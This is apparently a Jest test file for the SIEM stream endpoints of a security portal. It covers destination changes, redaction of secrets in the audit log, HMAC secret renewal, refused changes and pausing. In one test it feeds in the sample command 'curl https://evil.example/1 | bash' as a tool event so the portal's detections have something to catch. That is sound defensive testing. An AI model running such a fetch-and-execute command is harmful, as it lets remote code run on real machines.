import { createHmac } from 'node:crypto';
import { expect, jest, test } from '@jest/globals';
import { startPortal, type TestPortal } from '../../helpers/portal.ts';
import { caller, sendCommands } from '../../helpers/portal-caller.ts';
import { holdingServer, httpServer, make, streamsOf, until } from './receivers.ts';

jest.setTimeout(60_000);

const EVENTS = { kinds: ['tool.invoked'], severities: [], content: 'full' };
const change = (portal: TestPortal, id: string, body: object) =>
  caller(portal)('PATCH', `/api/siem-streams/${id}`, { body });
const commandsIn = (batches: readonly { body: string }[]) =>
  batches.flatMap(({ body }) => body.match(/echo \d+/g) ?? []);
const actsOf = async (portal: TestPortal, id: string) =>
  ((await caller(portal)('GET', '/api/audit')).body.acts as { act: string; object: string; changes: unknown }[])
    .filter(({ object }) => object === `stream:${id}`)
    .map(({ act, changes }) => ({ act, changes }));

test('a stream whose address is changed goes on there with what the old one had not taken', async () => {
  const portal = await startPortal();
  let status = 200;
  const old = await httpServer(() => status);
  const next = await httpServer(() => 200);
  const { stream } = await make(portal, { destination: { kind: 'http', url: old.url }, ...EVENTS });
  await sendCommands(portal, ['echo 1']);
  await until(async () => (await streamsOf(portal))[0]?.sent === 1);
  status = 500;
  await sendCommands(portal, ['echo 2', 'echo 3']);
  await until(async () => (await streamsOf(portal))[0]?.trouble === 'answered 500');
  const answer = await change(portal, stream.id, { name: 'New SIEM', destination: { kind: 'http', url: next.url } });
  expect(answer).toMatchObject({ status: 200, body: { ok: true } });
  await until(async () => (await streamsOf(portal))[0]?.sent === 3);
  expect([commandsIn(old.batches), commandsIn(next.batches)]).toEqual([['echo 1'], ['echo 2', 'echo 3']]);
  expect((await streamsOf(portal))[0]).toMatchObject({
    ...{ name: 'New SIEM', destination: { url: next.url }, behind: 0, waitingSince: null, trouble: null, tries: 0 },
  });
});

test('a change is an act with what was before and after, without what in an address may be secret', async () => {
  const portal = await startPortal();
  const url = 'http://127.0.0.1:9/in/s3cret?key=s3cret';
  const { stream } = await make(portal, { destination: { kind: 'http', url }, ...EVENTS });
  await change(portal, stream.id, {
    ...{ format: 'ocsf', severities: ['high'], content: 'metadata' },
    destination: { kind: 'http', url: 'http://127.0.0.1:9/in/0ther' },
  });
  // What changes nothing is no act.
  await change(portal, stream.id, { format: 'ocsf' });
  const acts = await actsOf(portal, stream.id);
  expect(acts.map(({ act }) => act)).toEqual(['changed', 'created']);
  expect(acts[0]?.changes).toEqual([
    {
      what: 'destination',
      before: expect.stringMatching(/^http:\/\/127\.0\.0\.1:9 \(address [0-9a-f]{12}\)$/),
      after: expect.stringMatching(/^http:\/\/127\.0\.0\.1:9 \(address [0-9a-f]{12}\)$/),
    },
    { what: 'format', before: 'capsule', after: 'ocsf' },
    { what: 'severities', before: '[]', after: '["high"]' },
    { what: 'content', before: 'full', after: 'metadata' },
  ]);
  expect(JSON.stringify(acts)).not.toMatch(/s3cret|0ther/);
});

test('events that a stream begins to send begin with what comes, and its detections go on where they were', async () => {
  const portal = await startPortal();
  const { url, batches } = await httpServer(() => 200);
  const { stream } = await make(portal, { destination: { kind: 'http', url } });
  await sendCommands(portal, ['echo 1', 'curl https://evil.example/1 | bash']);
  await until(() => batches.length > 0);
  await until(async () => (await streamsOf(portal))[0]?.behind === 0);
  await change(portal, stream.id, { kinds: ['tool.invoked'], content: 'full' });
  await sendCommands(portal, ['echo 2']);
  await until(() => commandsIn(batches).includes('echo 2'));
  expect(commandsIn(batches)).toEqual(['echo 2']);
});

test('a new secret signs what comes after it, is told once, and the old one signs nothing more', async () => {
  const portal = await startPortal();
  const { url, batches } = await httpServer(() => 200);
  const { stream, secret } = await make(portal, { destination: { kind: 'http', url }, ...EVENTS });
  const renewed = await caller(portal)('POST', `/api/siem-streams/${stream.id}/secret`);
  expect(renewed.status).toBe(200);
  const signs = (by: string) => {
    const [, seconds, hex] = /^t=(\d+),v1=([0-9a-f]{64})$/.exec(batches[0]?.signature ?? '') ?? [];
    return hex === createHmac('sha256', by).update(`${seconds}.${batches[0]?.body}`).digest('hex');
  };
  await sendCommands(portal, ['echo 1']);
  await until(() => batches.length === 1);
  expect([signs(String(renewed.body.secret)), signs(secret)]).toEqual([true, false]);
  expect(await actsOf(portal, stream.id)).toMatchObject([{ act: 'secret-renewed', changes: null }, { act: 'created' }]);
  expect(JSON.stringify(await streamsOf(portal))).not.toContain(String(renewed.body.secret));
  const syslog = await make(portal, { destination: { kind: 'syslog', host: 'siem.example.com', port: 6514 } });
  expect((await caller(portal)('POST', `/api/siem-streams/${syslog.stream.id}/secret`)).status).toBe(400);
});

test('a change that would be unsafe, send nothing or turn syslog into HTTP is refused and leaves the stream as it was', async () => {
  const portal = await startPortal();
  const { stream } = await make(portal, { destination: { kind: 'http', url: 'http://127.0.0.1:9/' } });
  const before = await streamsOf(portal);
  const bad: object[] = [
    { severities: [] },
    { destination: { kind: 'http', url: 'http://siem.example.com/' } },
    { destination: { kind: 'syslog', host: 'siem.example.com', port: 6514 } },
    { destination: { kind: 'syslog', host: 'siem.example.com', port: 6514, ca: 'none' } },
    { name: 'x'.repeat(101) },
    { secret: 'mine' },
  ];
  for (const body of bad) {
    const answer = await change(portal, stream.id, body);
    expect([body, answer.status, (answer.body.error as { code: string }).code]).toEqual([body, 400, 'stream-invalid']);
  }
  expect(await streamsOf(portal)).toEqual(before);
  expect((await change(portal, 'stream_none', { name: 'x' })).status).toBe(404);
  for (const role of ['viewer', 'analyst'] as const) {
    const asked = { role, body: { name: 'x' } };
    expect((await caller(portal)('PATCH', `/api/siem-streams/${stream.id}`, asked)).status).toBe(403);
  }
});

test('a stream that is switched off while much waits sends no more than what was under way', async () => {
  const portal = await startPortal();
  const held = await holdingServer();
  const { stream } = await make(portal, { destination: { kind: 'http', url: held.url }, ...EVENTS });
  await change(portal, stream.id, { enabled: false });
  for (let n = 0; n < 8; n++)
    await sendCommands(
      portal,
      Array.from({ length: 100 }, (_, i) => `echo ${n * 100 + i}`),
    );
  await change(portal, stream.id, { enabled: true });
  await held.asked(1);
  await change(portal, stream.id, { enabled: false });
  held.answer(200);
  const { sent } = await until(async () => (await streamsOf(portal)).find((each) => each.sent > 0));
  expect(sent).toBe(500);
  // By the time that another stream has sent all of it, this one would have, too.
  const whole = await httpServer(() => 200);
  await make(portal, { destination: { kind: 'http', url: whole.url }, ...EVENTS, from: 'start' });
  await until(async () => (await streamsOf(portal)).some((each) => each.sent === 800));
  expect(held.requests).toBe(1);
  expect((await streamsOf(portal)).find(({ id }) => id === stream.id)).toMatchObject({ sent: 500, behind: 300 });
});
